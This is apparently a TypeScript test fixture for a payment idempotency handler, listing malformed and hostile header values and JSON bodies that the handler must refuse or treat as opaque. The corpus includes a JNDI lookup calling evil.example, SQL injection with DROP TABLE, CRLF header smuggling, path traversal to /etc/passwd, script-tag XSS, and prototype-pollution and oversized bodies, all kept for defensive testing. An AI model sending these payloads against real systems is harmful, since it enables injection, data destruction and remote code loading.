/**
 * The bad-input corpus: what clients (and attackers) send. Every entry names what it is, so a failing row says
 * which input broke what. Values are header values or bodies as they reach the handler.
 */

/** Idempotency-Key values the preset must refuse with 400 before any store call. */
export const REFUSED_KEYS: readonly [string, string][] = [
  ['empty', ''],
  ['empty quoted string', '""'],
  ['only spaces', '   '],
  ['256 characters', 'k'.repeat(256)],
  ['256 characters quoted', `"${'k'.repeat(256)}"`],
  ['10,000 characters', 'k'.repeat(10_000)],
  ['Cyrillic and an emoji', 'ключ-🔑'],
  ['a non-breaking space', 'key\u00a0one'],
  ['a NUL byte', 'key\u0000one'],
  ['a tab inside', 'key\tone'],
  ['CR LF and a smuggled header', 'key\r\nX-Injected: 1'],
  ['DEL', 'key\u007f'],
  ['an unterminated quote', '"key'],
  ['text after the closing quote', '"key"tail'],
  ['a stray quote', 'ke"y'],
  ['a bad escape', '"k\\ey"'],
  ['SQL injection with spaces', "' OR '1'='1"],
  ['a quoted DROP TABLE', '"; DROP TABLE payments; --'],
  ['two keys joined by a comma', 'key-one,key-two'],
  ['two quoted keys', '"key-one", "key-two"'],
]

/**
 * Hostile-looking keys that are valid visible ASCII: opaque tokens to the toolkit, hashed before they reach the
 * table, never parsed, never logged. They must work like any other key.
 */
export const OPAQUE_KEYS: readonly [string, string][] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  ['a JNDI lookup', '${jndi:ldap://evil.example/a}'],
  ['a path traversal', '../../../../etc/passwd'],
  ['SQL without spaces', "'OR'1'='1';DROP/**/TABLE/**/payments;--"],
  ['a script tag', '<script>alert(1)</script>'],
  ['percent-encoded NUL', '%00%0d%0a'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  ['a template literal', '`${process.exit(1)}`'],
  ['a prototype key', '__proto__'],
  ['exactly 255 characters', 'k'.repeat(255)],
]

const deepArrays = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
const deepObjects = (depth: number) => `${'{"amount":'.repeat(depth)}1${'}'.repeat(depth)}`
/** 6 MB: Lambda's own synchronous payload limit, the largest body a deployed function could ever see. */
const SIX_MB = 6 * 1024 * 1024

export interface HostileBody {
  readonly name: string
  readonly body: string
  readonly base64?: boolean
  /** What the refusal's detail must name, where the reason is not plain from the body. */
  readonly why?: RegExp
}

/** Bodies the sample must refuse with 400 (nothing stored, nothing charged). */
export const REFUSED_BODIES: readonly HostileBody[] = [
  { name: 'not JSON', body: 'amount=100&currency=INR' },
  { name: 'truncated JSON', body: '{"amount":100,"currency":"IN' },
  { name: 'an empty body', body: '' },
  { name: 'JSON null', body: 'null' },
  { name: 'a JSON array', body: '[{"amount":100,"currency":"INR"}]' },
  { name: '10,000 nested arrays', body: deepArrays(10_000) },
  { name: '10,000 nested objects', body: deepObjects(10_000) },
  {
    name: '6 MB of description',
    body: JSON.stringify({ amount: 100, currency: 'INR', description: 'x'.repeat(SIX_MB) }),
  },
  { name: '6 MB of garbage', body: '\u0001'.repeat(SIX_MB) },
  {
    name: 'duplicate names',
    body: '{"amount":100,"currency":"INR","amount":100000000}',
    why: /"amount" more than once/,
  },
  {
    name: 'duplicate names spelled with escapes',
    body: '{"amount":100,"currency":"INR","\\u0061mount":9}',
    why: /"amount" more than once/,
  },
  { name: 'an amount of 1e400', body: '{"amount":1e400,"currency":"INR"}' },
  { name: 'an amount past 2^53', body: '{"amount":123456789012345678901234567890,"currency":"INR"}' },
  { name: 'an amount of -0', body: '{"amount":-0,"currency":"INR"}' },
  { name: 'an amount as a string', body: '{"amount":"100","currency":"INR"}' },
  { name: 'a __proto__ member', body: '{"amount":100,"currency":"INR","__proto__":{"admin":true}}' },
  { name: 'a constructor member', body: '{"amount":100,"currency":"INR","constructor":{"prototype":{}}}' },
  {
    name: 'invalid UTF-8 in a string',
    body: Buffer.concat([
      Buffer.from('{"amount":100,"currency":"INR","description":"'),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from('"}'),
    ]).toString('base64'),
    base64: true,
    why: /not valid UTF-8/,
  },
  { name: 'base64 garbage', body: '!!!!not/base64@@@@', base64: true },
  { name: 'a UTF-8 byte order mark', body: '\ufeff{"amount":100,"currency":"INR"}' },
]
